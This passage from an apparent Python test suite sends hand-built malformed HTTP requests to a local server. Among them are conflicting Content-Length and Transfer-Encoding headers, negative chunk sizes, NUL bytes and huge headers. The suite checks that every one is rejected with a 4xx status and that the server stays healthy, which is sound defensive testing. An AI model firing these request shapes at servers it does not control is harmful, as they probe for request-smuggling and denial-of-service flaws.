        "long": raw(web, path, form + b"Content-Length: %d\r\n" % len(long), long),
        "long in chunks": raw(web, path, form + b"Transfer-Encoding: chunked\r\n", in_chunks(long)),
        "said to be long": raw(web, path, form + b"Content-Length: 10000000000\r\n", b"message=x"),
        "both lengths": raw(web, path, form + b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n", b"0\r\n\r\n"),
        "two lengths": raw(web, path, form + b"Content-Length: 5\r\nContent-Length: 6\r\n", b"hello!"),
        "negative length": raw(web, path, form + b"Content-Length: -5\r\n", b"hello"),
        "odd chunk": raw(web, path, form + b"Transfer-Encoding: chunked\r\n", b"zz\r\nhello\r\n0\r\n\r\n"),
        "negative chunk": raw(web, path, form + b"Transfer-Encoding: chunked\r\n", b"-5\r\nhello\r\n0\r\n\r\n"),
        "other coding": raw(web, path, form + b"Transfer-Encoding: gzip, chunked\r\n", b"0\r\n\r\n"),
        "folded header": raw(web, path, b"X-A: b\r\n c: d\r\n", b""),
        "nul in header": raw(web, path, b"X-A: b\x00c\r\n", b""),
        "long line": raw(web, path + "?" + "x" * 5000, b"", b""),
        "long header": raw(web, path, b"X-A: " + b"x" * 100_000 + b"\r\n", b""),
        "no http": raw_bytes(web, b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\r\n\r\n"),
    }

    assert {name: code for name, code in codes.items() if code is None or not 400 <= code < 500} == {}
    assert (codes["long"], codes["long in chunks"], codes["said to be long"]) == (413, 411, 413)
    assert {codes[name] for name in ("both lengths", "two lengths", "negative length", "no http")} == {400}
    assert changes(before, house.dump()) == []
    connection = http.client.HTTPConnection("127.0.0.1", web.port, timeout=10)
    connection.request("GET", "/healthz")
    assert connection.getresponse().status == 200
    connection.close()


def in_chunks(body: bytes, size: int = 1000) -> bytes:
    """The body in the framing of a sender who does not know its length (RFC 9112 7.1)."""
    pieces = [body[start : start + size] for start in range(0, len(body), size)]
    return b"".join(b"%x\r\n%s\r\n" % (len(piece), piece) for piece in pieces) + b"0\r\n\r\n"


def raw(web: Web, path: str, headers: bytes, body: bytes) -> int | None:
    """The status code of a POST written by hand; None where the server hangs up without a word."""
    head = f"POST {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n".encode()
    return raw_bytes(web, head + headers + b"\r\n" + body)


def raw_bytes(web: Web, request: bytes) -> int | None:
    with socket.create_connection(("127.0.0.1", web.port), timeout=10) as connection:
        try:
            connection.sendall(request)
            connection.shutdown(socket.SHUT_WR)
        except OSError:
            pass  # refused before everything was sent: the answer says why
        answer = connection.makefile("rb").readline()
    return int(answer.split()[1]) if answer.startswith(b"HTTP/1.") else None
